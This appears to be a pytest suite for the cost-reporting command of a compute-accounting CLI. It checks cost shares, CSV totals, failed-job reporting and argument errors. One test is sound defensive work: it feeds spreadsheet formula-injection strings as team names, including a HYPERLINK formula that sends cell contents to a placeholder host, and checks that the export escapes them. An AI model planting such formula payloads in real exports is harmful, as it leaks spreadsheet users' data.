from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest

from raytide.services.accounting.book import Book
from raytide.services.accounting.sight import Claim, Snapshot
from raytide.services.accounting.span import UNITS, Kind, Owner, Rate
from raytide.services.ledger.database import connect, ledger_url

from .conftest import Ran

RATE = Rate(pool="cpu", accelerator="CPU", market="on-demand", units=4 * UNITS, nano_usd_per_hour=10**8)
CHAT = Owner(kind=Kind.SERVICE, name="chat", team="search", variant="vllm-cpu", revision="abc")
JOB = Owner(kind=Kind.JOB, name="train", job="raysubmit_1")


@pytest.fixture
def accounted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Forty seconds of one node, of which a service held half and a job a third of a CPU."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("RAYTIDE_HOME", str(tmp_path))
    claims = (
        Claim(claim="a", node="n", owner=CHAT, units=2 * UNITS),
        Claim(claim="b", node="n", owner=JOB, units=UNITS // 3),
    )
    book, now_ns = Book(connect(ledger_url(tmp_path))), time.time_ns()
    for ago_s in (50, 30, 10):
        book.enter(Snapshot(nodes={"n": RATE}, claims=claims, jobs={"raysubmit_1": "FAILED"}), now_ns - ago_s * 10**9)


@pytest.mark.usefixtures("accounted")
def test_every_line_is_shown_with_its_share_and_what_was_idle(here: Callable[..., Ran]) -> None:
    said = here("cost", "--since", "1h").out.splitlines()
    assert [line.split()[0] for line in said[1:]] == ["team", "search", "(none)", "idle", "together", "this"]
    assert "50.0%" in said[2]
    assert said[-1].startswith("this month: a month is forecast from 2 whole days")


@pytest.mark.usefixtures("accounted")
def test_csv_adds_up_to_the_last_digit(here: Callable[..., Ran]) -> None:
    rows = list(csv.DictReader(io.StringIO(here("cost", "--csv", "--by", "owner").out)))
    assert [row["owner"] for row in rows] == ["chat", "train", "idle"]
    assert sum(Decimal(row["usd"]) for row in rows) == Decimal("0.001111111")  # $0.1/h for 40 s
    assert sum(Decimal(row["CPU_hours"]) for row in rows) == Decimal("0.044444444")  # four CPUs for 40 s


def test_a_name_is_no_formula_to_a_spreadsheet(
    here: Callable[..., Ran], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("RAYTIDE_HOME", str(tmp_path))
    teams = ['=HYPERLINK("http://x/"&A1)', "+1", "-1", "@SUM(A1)", "＝1", "search", 'a;"=1']
    claims = tuple(
        Claim(claim=str(place), node="n", owner=Owner(kind=Kind.JOB, name="j", team=team), units=1)
        for place, team in enumerate(teams)
    )
    book, now_ns = Book(connect(ledger_url(tmp_path))), time.time_ns()
    for ago_s in (30, 10):
        book.enter(Snapshot(nodes={"n": RATE}, claims=claims, jobs={}), now_ns - ago_s * 10**9)
    out = here("cost", "--csv").out
    rows = {row["team"] for row in csv.DictReader(io.StringIO(out))}
    assert rows == {*(f"'{team}" for team in teams[:5]), *teams[5:], "idle"}
    assert all(line.startswith('"') for line in out.splitlines())


@pytest.mark.usefixtures("accounted")
def test_a_job_that_failed_has_its_cost_and_says_so(here: Callable[..., Ran]) -> None:
    assert "failed" in here("cost", "--by", "job").out
    (line,) = json.loads(here("cost", "--by", "job", "--json").out)["lines"]
    assert (line["name"], line["status"]) == ("raysubmit_1 train", "FAILED")


@pytest.mark.usefixtures("accounted")
def test_a_word_that_is_nearly_one_is_met_with_the_one_that_was_meant(here: Callable[..., Ran]) -> None:
    done = here("cost", "--by", "teams")
    assert (done.exit_code, "did you mean 'team'?" in done.err) == (2, True)
    assert here("cost", "--csv", "--json").exit_code == 2
    assert here("cost", "--since", "7").exit_code == 2
    assert here("cost", "--since", "999999999d").exit_code == 2


def test_where_nothing_was_accounted_the_sentence_says_since_when_it_is(
    here: Callable[..., Ran], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("RAYTIDE_HOME", str(tmp_path))
    done = here("cost")
    assert (done.exit_code, "the accountant runs beside the gateway" in done.err) == (1, True)
    elsewhere = here("cost", "--ledger", f"sqlite:///{tmp_path}/mistyped/ledger.db")
    assert (elsewhere.exit_code, elsewhere.err) == (1, done.err)
    assert here("keys", "list").out == "there is no key yet; `raytide keys create NAME` makes one\n"
    assert list(tmp_path.iterdir()) == []  # who only reads makes no database
